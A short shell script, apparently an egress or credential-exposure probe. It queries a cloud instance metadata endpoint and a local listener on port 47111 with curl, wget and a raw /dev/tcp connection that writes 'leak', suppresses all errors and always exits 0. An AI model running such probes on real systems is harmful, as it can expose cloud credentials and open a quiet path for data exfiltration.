# Asks the cloud's metadata service and a listener for keys.
for url in http://169.254.169.254/latest/meta-data/ http://127.0.0.1:47111/; do
  curl -s -m 1 "$url" || wget -q -T 1 -O - "$url" || (exec 3<>/dev/tcp/127.0.0.1/47111 && echo leak >&3)
done 2>/dev/null
exit 0
